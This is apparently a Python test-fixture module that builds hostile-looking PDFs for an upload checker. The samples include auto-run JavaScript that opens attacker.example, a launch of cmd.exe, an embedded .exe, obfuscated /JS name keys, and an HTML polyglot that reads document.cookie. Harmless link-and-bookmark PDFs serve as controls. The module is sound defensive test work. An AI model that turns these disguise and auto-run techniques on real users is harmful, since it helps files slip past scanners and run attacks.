"""PDFs with active content or a disguise, built with pypdf, for the upload checks; and
ordinary ones with links and bookmarks that must still pass."""

from __future__ import annotations

import io

from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.helpers import pdf_bytes


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    action[NameObject("/S")] = NameObject(kind)
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _annotation(writer: PdfWriter, subtype: str, **entries) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 150, 80)]),
        }
    )
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = value
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def document_javascript() -> bytes:
    """A script in the document's ``/JavaScript`` name tree, run on opening."""
    writer = _writer()
    script = _action("/JavaScript", JS=TextStringObject("app.alert('Hello');"))
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("hello"), writer._add_object(script)])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _bytes(writer)


def open_action_javascript() -> bytes:
    """``/OpenAction`` running a script."""
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.launchURL('https://attacker.example');")
    )
    return _bytes(writer)


def open_action_launch() -> bytes:
    """``/OpenAction`` launching a program."""
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("cmd.exe"), NewWindow=NameObject("/true")
    )
    return _bytes(writer)


def attachment() -> bytes:
    """A file in the ``/EmbeddedFiles`` name tree."""
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")
    return _bytes(writer)


def file_attachment_annotation() -> bytes:
    """A ``/FileAttachment`` annotation on the page, carrying its file."""
    writer = _writer()
    stream = writer._add_object(
        DictionaryObject({NameObject("/Type"): NameObject("/EmbeddedFile")})
    )
    spec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("notes.txt"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): stream}),
        }
    )
    _annotation(writer, "/FileAttachment", FS=spec)
    return _bytes(writer)


def link_submitting_a_form() -> bytes:
    """A link whose action sends the form's data elsewhere."""
    writer = _writer()
    _annotation(writer, "/Link", A=_action("/SubmitForm", F=TextStringObject("https://x.example")))
    return _bytes(writer)


def page_opening_script_in_disguise() -> bytes:
    """A page ``/AA`` (open) action whose ``/JS`` is spelt ``/J#53`` in the file."""
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert(1);"))}
    )
    data = _bytes(writer)
    assert data.count(b"/JS ") == 1
    return data.replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/JavaScrip#74")


def rich_media() -> bytes:
    """A ``/RichMedia`` annotation (Flash or video)."""
    writer = _writer()
    _annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())
    return _bytes(writer)


def html_polyglot() -> bytes:
    """An HTML page with a genuine PDF after it: a browser reads it as a web page."""
    return b"<html><script>alert(document.cookie)</script></html>\n" + pdf_bytes("Polyglot")


def with_web_link_and_bookmark() -> bytes:
    """An ordinary PDF with a link to a web address and a bookmark."""
    writer = _writer()
    writer.add_annotation(0, Link(rect=(50, 50, 150, 80), url="https://example.org/syllabus"))
    writer.add_outline_item(title="Syllabus", page_number=0)
    writer.add_metadata({"/Title": "Syllabus"})
    return _bytes(writer)
